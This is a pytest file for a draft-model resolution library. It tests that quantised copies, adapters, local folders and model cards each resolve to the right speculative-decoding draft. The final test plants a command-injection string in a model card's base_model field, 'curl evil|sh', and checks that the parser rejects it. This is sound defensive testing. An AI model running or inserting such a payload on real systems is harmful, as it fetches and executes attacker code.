"""Every way of loading a target, and every copy of one, leads to the draft that was made for it."""

import copy
import functools
import json
import shutil
from pathlib import Path

import pytest
from huggingface_hub import HfApi, snapshot_download
from transformers import (
    CONFIG_MAPPING,
    AutoConfig,
    AutoModelForCausalLM,
    AutoModelForImageTextToText,
    PretrainedConfig,
    TorchAoConfig,
)

import tiny
import tiny_checkpoints
from dflash_hub import DFLASH_DRAFT_REGISTRY, resolve_dflash_draft_spec
from dflash_hub.checkpoints import read_card, split_precision
from dflash_hub.registry import CATALOGUE, drafts_for, explain_resolution
from tiny_checkpoints import ARCHITECTURES, NOT_BUILT

TARGETS = list(dict.fromkeys(name for spec in CATALOGUE for name in spec.targets))
LOADED = {
    name: drafts_for(name)[0].architectures[0]
    for name in TARGETS
    if {*drafts_for(name)[0].architectures} & {*ARCHITECTURES}
}
REPRESENTATIVES = {architecture: name for name, architecture in reversed(LOADED.items())}.values()
QWEN35 = "Qwen3_5ForConditionalGeneration"


def outcome(target, architectures=None) -> str:
    """The repository that is resolved, or the reason why none can be run; never a warning."""
    try:
        return resolve_dflash_draft_spec(architectures, target=target).repo_id
    except ValueError as error:
        return str(error)


def expected(name: str) -> str:
    spec = drafts_for(name)[0]
    return (
        f"{spec.repo_id} cannot be run by this version of dflash-hub: {spec.unsupported}."
        if spec.unsupported
        else spec.repo_id
    )


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """Folder of a tiny checkpoint, by architecture."""
    made: dict[str, Path] = {}

    def folder(architecture: str) -> Path:
        if architecture not in made:
            if ARCHITECTURES[architecture][0] not in CONFIG_MAPPING:
                pytest.skip("this transformers does not know the architecture yet")
            folder = tmp_path_factory.mktemp("saved") / "checkpoint"
            tiny_checkpoints.save(architecture, folder)
            made[architecture] = folder
        return made[architecture]

    return folder


@functools.cache
def autos_for(folder) -> list:
    """The Auto classes that have a model for a checkpoint."""
    config = AutoConfig.from_pretrained(folder)
    return [auto for auto in (AutoModelForCausalLM, AutoModelForImageTextToText) if type(config) in auto._model_mapping]


def test_every_target_has_a_row_in_the_table_of_tiny_checkpoints():
    named = {architecture for spec in CATALOGUE for architecture in spec.architectures}
    assert named == {*ARCHITECTURES, *NOT_BUILT}


@pytest.mark.parametrize("name", LOADED)
def test_however_a_target_is_loaded_its_own_draft_is_resolved(name, hub, saved):
    """One target of each architecture as a model; the others, which differ by name, by their configs."""
    folder = saved(LOADED[name])
    kinds = autos_for(folder) if name in REPRESENTATIVES else []
    HfApi().create_repo(name)
    HfApi().upload_folder(folder_path=folder, repo_id=name, ignore_patterns=None if kinds else "*.safetensors")
    targets = [kind.from_pretrained(name) for kind in kinds] or [AutoConfig.from_pretrained(name)]
    for target in targets:
        config = getattr(target, "config", target)
        assert outcome(target) == outcome(config) == expected(name)
        assert outcome(target, config.architectures) == expected(name)
    assert not [path for _, path, _ in hub.calls() if "README" in path]
    for target in (name, AutoConfig.from_pretrained(name), snapshot_download(name)):
        assert outcome(target) == expected(name)
    for kind in kinds[-1:]:
        assert outcome(kind.from_pretrained(snapshot_download(name))) == expected(name)


@pytest.mark.parametrize("name", LOADED)
def test_a_folder_that_is_named_like_the_target_or_names_it_resolves_to_its_draft(name, saved, tmp_path):
    """One target of each architecture as a model, as above."""
    loader = autos_for(saved(LOADED[name]))[0] if name in REPRESENTATIVES else AutoConfig
    named = tmp_path / name
    shutil.copytree(saved(LOADED[name]), named)
    told = tmp_path / "told"
    shutil.copytree(named, told)
    (told / "README.md").write_text(f"---\nbase_model: {name}\n---\n")
    for folder in (named, told):
        assert outcome(folder) == expected(name)
        assert outcome(str(folder)) == expected(name)
        assert outcome(loader.from_pretrained(folder)) == expected(name)


@pytest.mark.filterwarnings("ignore::FutureWarning")  # peft asks transformers for what it is about to rename
@pytest.mark.parametrize("architecture", sorted(set(LOADED.values())))
def test_a_class_of_its_own_adapters_and_quantised_weights_change_nothing(architecture, hub, saved, tmp_path):
    """By one Auto class, and by both for one of the composite architectures."""
    from peft import LoraConfig, PeftModel, get_peft_model
    from torchao.quantization import Int8WeightOnlyConfig

    name = next(name for name, its in LOADED.items() if its == architecture)
    HfApi().create_repo(name)
    HfApi().upload_folder(folder_path=saved(architecture), repo_id=name)
    kinds = autos_for(saved(architecture))
    for kind in kinds if architecture == QWEN35 else kinds[-1:]:
        plain = kind.from_pretrained(name)
        itself = type(plain).from_pretrained(name)
        assert outcome(itself) == outcome(itself, itself.config.architectures) == expected(name)
        wrapped = get_peft_model(
            copy.deepcopy(plain), LoraConfig(r=1, target_modules=r"(?!.*vision).*\.(q|q_a|k)_proj")
        )
        assert outcome(wrapped) == outcome(wrapped, wrapped.config.architectures) == expected(name)
        wrapped.save_pretrained(tmp_path / kind.__name__)
        assert outcome(PeftModel.from_pretrained(plain, tmp_path / kind.__name__)) == expected(name)
        assert outcome(kind.from_pretrained(tmp_path / kind.__name__)) == expected(name)
        assert outcome(tmp_path / kind.__name__) == expected(name)
        assert outcome(wrapped.merge_and_unload()) == expected(name)
        quantised = kind.from_pretrained(name, quantization_config=TorchAoConfig(Int8WeightOnlyConfig()))
        assert outcome(quantised, quantised.config.architectures) == expected(name)


@pytest.mark.parametrize("name", sorted(set(TARGETS) - set(LOADED)))
def test_a_target_that_transformers_does_not_know_is_found_by_its_name(name, hub):
    assert outcome(name) == outcome(PretrainedConfig(name_or_path=name)) == expected(name)
    assert hub.calls() == []


# Copies ----------------------------------------------------------------------------------------------------------


def qwen(name: str = "", model_type: str = "qwen3", **shape):
    """A config of the shape of Qwen3-8B, or of another."""
    shape = {"hidden_size": 4096, "num_hidden_layers": 36, "vocab_size": 151936} | shape
    config = AutoConfig.for_model(model_type, **shape)
    config.name_or_path = name
    return config


def upload(name: str, card: str = "", config=None) -> None:
    """Put a repository of a config and a card on the Hub."""
    HfApi().create_repo(name)
    (config or qwen()).push_to_hub(name)
    if card:
        HfApi().upload_file(path_or_fileobj=f"---\n{card}\n---\n".encode(), path_in_repo="README.md", repo_id=name)


@pytest.mark.parametrize(
    ("name", "rest"),
    [
        ("Qwen3-8B-AWQ", "Qwen3-8B"),
        ("Qwen3-8B-unsloth-bnb-4bit", "Qwen3-8B"),
        ("Qwen3-8B-bnb-4bit", "Qwen3-8B"),
        ("Qwen3-8B-GPTQ-Int4", "Qwen3-8B"),
        ("Qwen3-8B-gptq-4bit-128g", "Qwen3-8B"),
        ("Qwen3-8B-quantized.w4a16", "Qwen3-8B"),
        ("Qwen3-8B-W8A8", "Qwen3-8B"),
        ("Qwen3-8B-FP8-Dynamic", "Qwen3-8B"),
        ("Qwen3-8B_NVFP4", "Qwen3-8B"),
        ("Qwen3-8B.MXFP4", "Qwen3-8B"),
        ("Qwen3-8B-AWQ-4bit", "Qwen3-8B"),
        ("Qwen3-8B-8bit", "Qwen3-8B"),
        ("Qwen3-8B-i1-GGUF", "Qwen3-8B"),
        ("Qwen3-8B-UD-Q4_K_XL", "Qwen3-8B"),
        ("Qwen3-8B-exl3-4.0bpw", "Qwen3-8B"),
        ("Qwen3-8B-int4-AutoRound", "Qwen3-8B"),
        ("gemma-4-26B-A4B-it-BF16", "gemma-4-26B-A4B-it"),
        ("Qwen3.5-4B", "Qwen3.5-4B"),
        ("Qwen3-4B-Base", "Qwen3-4B-Base"),
        ("Qwen3-4B-Instruct-2507-FP8", "Qwen3-4B-Instruct-2507"),
        ("my-model-dynamic", "my-model-dynamic"),
        ("gemma-4-12B-it-qat-q4_0", "gemma-4-12B-it-qat"),
    ],
)
def test_what_a_name_says_of_quantisation_is_told_from_the_rest(name, rest):
    assert split_precision(name) == (rest, name[len(rest) :])


@pytest.mark.quick
@pytest.mark.parametrize(
    "name", ["Qwen/Qwen3-8B-AWQ", "unsloth/Qwen3-8B-bnb-4bit", "RedHatAI/Qwen3-8B-quantized.w4a16", "me/qwen3-8b_fp8"]
)
def test_a_quantised_copy_resolves_to_the_draft_of_its_base_and_says_so(name, hub):
    spec, why = explain_resolution(None, qwen(name))
    assert spec is drafts_for("Qwen/Qwen3-8B")[0]
    assert why == f"It was made for Qwen/Qwen3-8B, of which {name} is a quantised copy (by its name and shape)."
    assert hub.calls() == []


def test_a_copy_in_the_same_or_another_precision_is_told_as_such():
    assert "unsloth/Qwen3-8B is a copy (by" in explain_resolution(None, qwen("unsloth/Qwen3-8B"))[1]
    assert (
        "me/Qwen3-8B-BF16 is a copy in another precision (by" in explain_resolution(None, qwen("me/Qwen3-8B-BF16"))[1]
    )
    assert explain_resolution(None, "zai-org/GLM-5.2-BF16")[1].startswith("It was made for zai-org/GLM-5.2-FP8, of")


@pytest.mark.parametrize("name", ["Qwen/Qwen3-8B-AWQ", "unsloth/Qwen3-8B-AWQ", "me/Qwen3-8B"])
def test_a_copys_name_on_another_shape_is_no_copy(name, hub):
    with pytest.raises(ValueError, match=f"does not know {name}, and no draft .* fits its shape"):
        resolve_dflash_draft_spec(None, qwen(name, num_hidden_layers=35))


@pytest.mark.parametrize(
    "name", ["Qwen/Qwen3-4B-Base", "Qwen/Qwen3-4B-Instruct-2507", "unsloth/Qwen3-4B-Base-bnb-4bit", "me/Qwen3-4B-Coder"]
)
def test_a_sibling_is_no_copy(name, hub):
    with pytest.warns(UserWarning, match=f"does not know {name}; .* was made for Qwen/Qwen3-4B, which has the same"):
        resolve_dflash_draft_spec(None, qwen(name, hidden_size=2560))


def test_another_owners_name_alone_asks_for_its_config(hub):
    with pytest.raises(OSError, match="not a valid model identifier"):
        resolve_dflash_draft_spec(None, "unsloth/Qwen3-8B-AWQ")
    assert resolve_dflash_draft_spec(None, "Qwen/Qwen3-8B-GPTQ-Int8").repo_id == "z-lab/Qwen3-8B-DFlash-b16"
    upload("unsloth/Qwen3-8B-FP8")
    assert resolve_dflash_draft_spec(None, "unsloth/Qwen3-8B-FP8").repo_id == "z-lab/Qwen3-8B-DFlash-b16"
    upload("unsloth/Qwen3-8B-NVFP4", config=qwen(hidden_size=2048))
    with pytest.raises(ValueError, match="fits its shape"):
        resolve_dflash_draft_spec(None, "unsloth/Qwen3-8B-NVFP4")


@pytest.mark.parametrize("relation", ["", "\nbase_model_relation: quantized"], ids=["untold", "told"])
@pytest.mark.parametrize("by", ["id", "config"])
def test_a_card_that_names_the_base_settles_it(relation, by, hub, repo_id):
    upload(repo_id, f"base_model: Qwen/Qwen3.6-27B{relation}", qwen(vocab_size=248320))
    spec, why = explain_resolution(None, repo_id if by == "id" else AutoConfig.from_pretrained(repo_id))
    assert spec is drafts_for("Qwen/Qwen3.6-27B")[0]
    assert f"{repo_id} is a {'quantised ' if relation else ''}copy (by its card)." in why


def test_a_card_is_believed_rather_than_a_name(hub):
    shape = {"hidden_size": 5120, "num_hidden_layers": 64, "vocab_size": 248320}
    upload("me/Qwen3.5-27B-AWQ", "base_model: Qwen/Qwen3.6-27B", qwen(**shape))
    assert resolve_dflash_draft_spec(None, "me/Qwen3.5-27B-AWQ") is drafts_for("Qwen/Qwen3.6-27B")[0]


@pytest.mark.parametrize(
    "says",
    [
        "base_model_relation: finetune",
        "base_model_relation: adapter",
        "base_model_relation: merge",
        "library_name: peft",
        "tags: [generated_from_trainer]",
    ],
)
@pytest.mark.parametrize("last", ["tuned", "Qwen3-8B-AWQ"])
def test_what_was_trained_further_stays_with_its_shape_and_the_warning(says, last, hub, repo_id):
    name = f"{repo_id.replace('/', '-')[:60]}/{last}"
    upload(name, f"base_model: Qwen/Qwen3-8B\n{says}")
    with pytest.warns(UserWarning, match=f"does not know {name}; .*was made for Qwen/Qwen3-8B, which has the same"):
        assert resolve_dflash_draft_spec(None, name).repo_id == "z-lab/Qwen3-8B-DFlash-b16"


def test_of_drafts_that_fit_what_was_trained_further_gets_the_one_of_its_own_base(hub, repo_id):
    shape = {"hidden_size": 5120, "num_hidden_layers": 64, "vocab_size": 248320}
    upload(repo_id, "base_model: Qwen/Qwen3.6-27B\nbase_model_relation: finetune")
    config = AutoConfig.for_model("qwen3_5_text", **shape)
    config.name_or_path = repo_id
    with pytest.warns(UserWarning, match="was made for Qwen/Qwen3.6-27B"):
        assert resolve_dflash_draft_spec(None, config) is drafts_for("Qwen/Qwen3.6-27B")[0]


def test_a_loaded_target_without_a_card_is_judged_by_its_shape(hub):
    with pytest.warns(UserWarning, match="was made for Qwen/Qwen3-8B, which has the same"):
        resolve_dflash_draft_spec(None, qwen("me/away"))


@pytest.mark.parametrize("away", [{"HF_HUB_OFFLINE": "1"}, {"HF_ENDPOINT": "http://127.0.0.1:9"}])
def test_offline_a_loaded_target_needs_no_card(away, fresh_process):
    code = """
    from transformers import AutoConfig
    from dflash_hub.registry import explain_resolution

    config = AutoConfig.for_model("qwen3", hidden_size=4096, num_hidden_layers=36, vocab_size=151936)
    for name in ("unsloth/Qwen3-8B-AWQ", "me/tuned"):
        config.name_or_path = name
        print(explain_resolution(None, config)[1])
    print(explain_resolution(None, "Qwen/Qwen3-8B-AWQ")[1])
    """
    copy, tuned, same_owner = fresh_process(code, block=False, **away).splitlines()
    assert "is a quantised copy (by its name and shape)" in copy
    assert tuned.startswith("The catalogue does not know me/tuned")
    assert "is a quantised copy (by its name and shape)" in same_owner


@pytest.mark.parametrize("card", ["base_model: [Qwen/Qwen3-8B", "- base_model", "base_model: 7"])
def test_a_card_that_cannot_be_read_counts_for_nothing(card, tmp_path):
    qwen().save_pretrained(tmp_path)
    (tmp_path / "README.md").write_text(f"---\n{card}\n---\n")
    with pytest.warns(UserWarning, match="does not know"):
        resolve_dflash_draft_spec(None, tmp_path)


def test_a_folder_is_known_by_its_config_or_by_its_name_and_shape(tmp_path):
    for folder, written in (("model", {"_name_or_path": "Qwen/Qwen3-8B"}), ("Qwen3-8B-AWQ", {})):
        qwen(**written).save_pretrained(tmp_path / folder)
        if written:
            file = tmp_path / folder / "config.json"
            file.write_text(json.dumps(json.loads(file.read_text()) | written))
        for target in (tmp_path / folder, AutoConfig.from_pretrained(tmp_path / folder)):
            spec, why = explain_resolution(None, target)
            assert spec.repo_id == "z-lab/Qwen3-8B-DFlash-b16"
            assert ("by its config.json" if written else "quantised copy (by its folder and shape)") in why


def test_a_checkpoint_of_the_catalogue_that_was_trained_from_another_keeps_its_own_draft_in_a_folder(tmp_path):
    folder = tmp_path / "Ornith-1.5-9B"
    qwen(num_hidden_layers=32, vocab_size=248320).save_pretrained(folder)
    (folder / "README.md").write_text("---\nbase_model: Qwen/Qwen3.5-9B\n---\n")
    assert resolve_dflash_draft_spec(None, folder).target == "ornith-ai/Ornith-1.5-9B"


# By shape --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("model_type", "fields", "target"),
    [
        ("qwen3_5_text", {"hidden_size": 2560, "num_hidden_layers": 32, "vocab_size": 248320}, "Qwen/Qwen3.5-4B"),
        ("gemma4_text", {"hidden_size": 5376, "num_hidden_layers": 60, "vocab_size": 262144}, "google/gemma-4-31B-it"),
        (
            "llama",
            {"hidden_size": 4096, "num_hidden_layers": 32, "vocab_size": 128256},
            "meta-llama/Llama-3.1-8B-Instruct",
        ),
    ],
)
def test_a_config_without_architectures_is_judged_by_its_model_type_and_shape(model_type, fields, target):
    with pytest.warns(UserWarning, match=f"was made for {target}, which has the same"):
        assert resolve_dflash_draft_spec(target=AutoConfig.for_model(model_type, **fields)).target == target


def test_a_composite_config_is_judged_by_its_text_part():
    text = {"hidden_size": 7168, "num_hidden_layers": 61, "vocab_size": 163840}
    config = AutoConfig.for_model("kimi_k25", text_config=text | {"model_type": "deepseek_v3"})
    with pytest.warns(UserWarning, match=r"was made for moonshotai/Kimi-K2\.5"):
        assert resolve_dflash_draft_spec(target=config) is DFLASH_DRAFT_REGISTRY["KimiK25ForConditionalGeneration"]
    with pytest.warns(UserWarning, match=r"was made for moonshotai/Kimi-K2\.5"):
        resolve_dflash_draft_spec(None, config.text_config)


def test_the_class_of_a_model_counts_where_nothing_else_tells(saved):
    model = AutoModelForCausalLM.from_pretrained(saved(QWEN35))
    assert model.config.architectures is None
    with pytest.raises(ValueError, match="no draft for Qwen3_5ForCausalLM fits its shape"):
        resolve_dflash_draft_spec(model.config.architectures, target=model)


def test_a_name_on_a_card_that_is_no_name_of_the_hubs_is_not_repeated(tmp_path):
    evil = 'Qwen/Qwen3-4B"; curl evil|sh #'
    tiny.target("qwen3").config.save_pretrained(tmp_path)
    (tmp_path / "README.md").write_text(f"---\nbase_model: '{evil}'\n---\n")
    assert read_card(str(tmp_path), online=False) is None
